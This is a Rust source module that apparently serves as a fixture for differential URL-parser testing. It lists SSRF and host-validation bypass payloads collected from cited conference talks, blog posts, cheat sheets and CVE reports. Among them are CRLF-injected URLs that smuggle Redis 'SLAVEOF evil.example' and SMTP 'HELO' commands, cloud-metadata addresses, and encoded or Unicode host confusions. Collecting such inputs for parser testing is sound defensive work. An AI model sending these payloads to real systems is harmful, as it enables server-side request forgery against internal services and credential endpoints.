//! Inputs from published work on parsers that differ.
//!
//! Hosts of third parties in the sources are replaced by `good.example` and `evil.example`.

/// Where inputs come from.
pub(crate) struct Source {
    pub(crate) citation: &'static str,
    pub(crate) inputs: &'static [&'static str],
}

#[rustfmt::skip]
pub(crate) const SOURCES: &[Source] = &[
    Source {
        citation: "Orange Tsai: A New Era of SSRF (Black Hat USA 2017), \
                   https://www.blackhat.com/docs/us-17/thursday/us-17-Tsai-A-New-Era-Of-SSRF-Exploiting-URL-Parser-In-Trending-Programming-Languages.pdf",
        inputs: &[
            "http://1.1.1.1 &@2.2.2.2# @3.3.3.3/", "http://127.0.0.1:11211:80/", "http://good.example#@evil.example/",
            "http://foo@evil.example:80@good.example/", "http://foo@127.0.0.1:11211@good.example:80/", "http://foo@127.0.0.1 @good.example/",
            "http://foo@127.0.0.1:11211 @good.example:80/", "http://evil.example/sandbox/\u{ff2e}\u{ff2e}/passwd",
            "http://127.0.0.1\r\nSLAVEOF evil.example 6379\r\n:6379/", "http://127.0.0.1:6379\r\nSLAVEOF evil.example 6379\r\n/",
            "http://0/", "http://127.0.0.1%0d%0aHELO evil.example/", "https://127.0.0.1 %0D%0AHELO evil.example%0D%0A:25/",
            "http://127.0.0.1:25/%0D%0AHELO evil.example%0D%0AMAIL FROM", "http://good.example\u{3002}evil.example/",
        ],
    },
    Source {
        citation: "Claroty Team82 and Snyk: Exploiting URL Parsing Confusion (2022), \
                   https://claroty.com/team82/research/exploiting-url-parsing-confusion",
        inputs: &[
            "good.example/abc", "http:good.example", "http:/good.example", "http:///good.example/", "http:////good.example/", "///good.example/a",
            r"http:\\good.example", r"http:/\good.example", r"http:\/good.example", r"\\good.example", r"http://good.example\a",
            "http://%67%6f%6f%64.example/", "http://good%2eexample/", "http://127.0.0.1%23.evil.example/", "ldap://127.0.0.1#.evil.example:1389/a",
            "http://good.example#@evil.example", r"http://good.example\@evil.example/", "http://good.example%5c@evil.example/", "https:/evil.example?good.example",
        ],
    },
    Source {
        citation: "Daniel Stenberg: My URL isn't your URL (2016), https://daniel.haxx.se/blog/2016/05/11/my-url-isnt-your-url/, \
                   and Don't mix URL parsers (2022), https://daniel.haxx.se/blog/2022/01/10/dont-mix-url-parsers/",
        inputs: &[
            "http://user:name@good.example:80@evil.example/", "http://http://http://@http://http://?http://#http://", "http://good.example:80@evil.example/", "HTTP:good.example",
            "http://///good.example/", "http://good.example:/", "http://good.example:08080/", "http://good.example:65536/", "http://192.168.0.1.evil.example/", "http://0300.0250.0.1/",
            "http://good .example/", "http://räksmörgås.example/", "http://[fe80::1%25lo]/", "http://good.example?@evil.example/", "http://user@@good.example/",
        ],
    },
    Source {
        citation: "CVE-2016-8624, https://curl.se/docs/CVE-2016-8624.html; CVE-2022-27780, https://curl.se/docs/CVE-2022-27780.html; \
                   CVE-2022-42916, https://curl.se/docs/CVE-2022-42916.html; CVE-2022-43551, https://curl.se/docs/CVE-2022-43551.html",
        inputs: &[
            "http://good.example#@evil.example/x.txt", "http://good.example?@evil.example/x.txt", "http://good.example%2F127.0.0.1/", "http://good.example%2f@127.0.0.1/",
            "http://good\u{3002}example/", "http://good\u{ff0e}example/", "http://good\u{ff61}example/", "http://good.example%3F@evil.example/", "http://good.example%23127.0.0.1/",
        ],
    },
    Source {
        citation: "Jonathan Birch: HostSplit (Black Hat USA 2019), https://i.blackhat.com/USA-19/Thursday/us-19-Birch-HostSplit-Exploitable-Antipatterns-In-Unicode-Normalization.pdf; \
                   CVE-2019-9636 and CVE-2019-10160, https://bugs.python.org/issue36216, https://bugs.python.org/issue36742",
        inputs: &[
            "http://evil.c\u{2100}.good.example/", "http://evil.example\u{2048}.good.example/", "http://evil.example\u{ff0f}.good.example/", "http://evil.example\u{ff03}@good.example/",
            "http://user\u{ff03}@good.example/", "http://evil.example\u{ff1f}.good.example/", "http://evil.example\u{ff1a}80\u{ff03}@good.example:443/", "http://evil.example\u{ff20}good.example/",
            "http://good\u{2024}example/", "http://\u{2488}1.1.1/", "http://evil.example\u{fe68}@good.example/", "http://evil.example\u{2105}good.example/", "http://fa\u{df}.good.example/", "http://\u{1e9e}.example/",
        ],
    },
    Source {
        citation: "PortSwigger: URL validation bypass cheat sheet (2024), https://portswigger.net/web-security/ssrf/url-validation-bypass-cheat-sheet",
        inputs: &[
            "https://good.example&@evil.example#@good.example/", "https://good.example;@evil.example/", "https://good.example:@evil.example/", "https://good.example:443:@evil.example/",
            "https://good.example:443:\\@@evil.example/", "https://good.example:443\\@evil.example/", "https://good.example:443#\\@evil.example/", "https://good.example?@evil.example/",
            "https://evil.example\\.good.example/", "https://evil.example\\@good.example/", "https://evil.example\\[good.example]/", "https://good.example[@evil.example/",
            "https://evil.example%ff@good.example/", "https://evil.example%bf:@good.example/", "https://evil.example%252f@good.example/", "https://evil.example%E3%80%82good.example/",
            "https://evil.example%00good.example/", "https://evil.example%09good.example/", "https://good.example%0a.evil.example/", "https://good.example\u{0}.evil.example/",
            "https://good.example\t.evil.example/", "https://user:pass[@good.example/", "https://[good.example]@evil.example/", "https://good.example%5B@evil.example/",
            "https://good.example{@evil.example/", "https://evil.example`good.example/", "https://evil.example|good.example/", "https://good.example\u{ff20}evil.example/",
            "0://evil.example:80;http://good.example:80/", "https://evil.example_good.example/", "https://evil.example~good.example/", "https://localhost.good.example/",
        ],
    },
    Source {
        citation: "PayloadsAllTheThings: Server Side Request Forgery, https://github.com/swisskyrepo/PayloadsAllTheThings/tree/master/Server%20Side%20Request%20Forgery",
        inputs: &[
            "http://127.1.1.1:80\\@127.2.2.2:80/", "http://127.1.1.1:80\\@@127.2.2.2:80/", "http://127.1.1.1:80:\\@@127.2.2.2:80/", "http://127.1.1.1:80#\\@127.2.2.2:80/",
            "http://2130706433/", "http://3232235521/", "http://2852039166/", "http://0177.0.0.1/", "http://0o177.0.0.1/", "http://q177.0.0.1/", "http://0x7f000001/", "http://0xA9FEA9FE/",
            "http://0x41414141A9FEA9FE/", "http://425.510.425.510/", "http://7147006462/", "http://0251.0376.0251.0376/", "http://0251.00376.000251.0000376/", "http://127.1/", "http://127.0.1/",
            "http://127.127.127.127/", "http://[::]:80/", "http://[0000::1]:80/", "http://[::ffff:127.0.0.1]/", "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://[::ffff:169.254.169.254]/",
            "http://[fd00:ec2::254]/", "http://[fe80::%2516]/", "http://\u{24d4}\u{24e7}\u{24d0}\u{24dc}\u{24df}\u{24db}\u{24d4}.\u{24d2}\u{24de}\u{24dc}/", "http://\u{2460}\u{2461}\u{2466}.\u{24ea}.\u{24ea}.\u{2460}/",
            "http://\u{2460}\u{2465}\u{2468}.\u{2461}\u{2464}\u{2463}.\u{2460}\u{2465}\u{2468}.\u{2461}\u{2464}\u{2463}/", "http:127.0.0.1/", "http://127.0.0.1.nip.io/", "http://localhost:22/", "http://0.0.0.0:80/",
        ],
    },
    Source {
        citation: "Reports: CVE-2020-7071 (PHP), https://bugs.php.net/bug.php?id=77423; CVE-2020-13956 (Apache HttpClient), https://nvd.nist.gov/vuln/detail/CVE-2020-13956; \
                   CVE-2024-22243 and CVE-2024-22259 (Spring), https://spring.io/security/cve-2024-22243, https://spring.io/security/cve-2024-22259; \
                   CVE-2023-24329 (Python), https://nvd.nist.gov/vuln/detail/CVE-2023-24329; CVE-2024-11168 and CVE-2025-0938 (Python), https://nvd.nist.gov/vuln/detail/CVE-2024-11168, \
                   https://nvd.nist.gov/vuln/detail/CVE-2025-0938; CVE-2019-14809 (Go), https://github.com/golang/go/issues/29098; CVE-2021-29921 (Python), https://nvd.nist.gov/vuln/detail/CVE-2021-29921; \
                   CVE-2021-3664 and CVE-2022-0691 (url-parse), https://nvd.nist.gov/vuln/detail/CVE-2021-3664, https://nvd.nist.gov/vuln/detail/CVE-2022-0691; \
                   CVE-2023-26159 (follow-redirects), https://nvd.nist.gov/vuln/detail/CVE-2023-26159; CVE-2026-46526 (requests), https://www.miggo.io/vulnerability-database/cve/CVE-2026-46526",
        inputs: &[
            "https://good.example:\\@evil.example/", "https://good.example:\\evil.example/", "http://user@good.example:80@evil.example/", "https://good.example[@evil.example", "https://good.example\\[@evil.example/",
            " https://evil.example/", "\u{b}https://evil.example/", "\u{8}http://evil.example/", "http://[v1.good.example]/", "http://good.example[v6a.::1]/", "http://[::1].evil.example/", "http://[good.example]/",
            "http://[::1]namedport/", "http://[::1]:namedport/", "http://good.example:namedport/", "http://010.8.8.8/", "http://0127.0.0.1/", "http://127.0.0.010/", r"https:\/good.example/foo", r"https:/\/\good.example/",
            "https:good.example", "http://good.example:80:80/", "http://[localhost]/", r"http://10.0.0.1\@1.1.1.1/", r"http://127.0.0.1:6666\@1.1.1.1",
        ],
    },
];
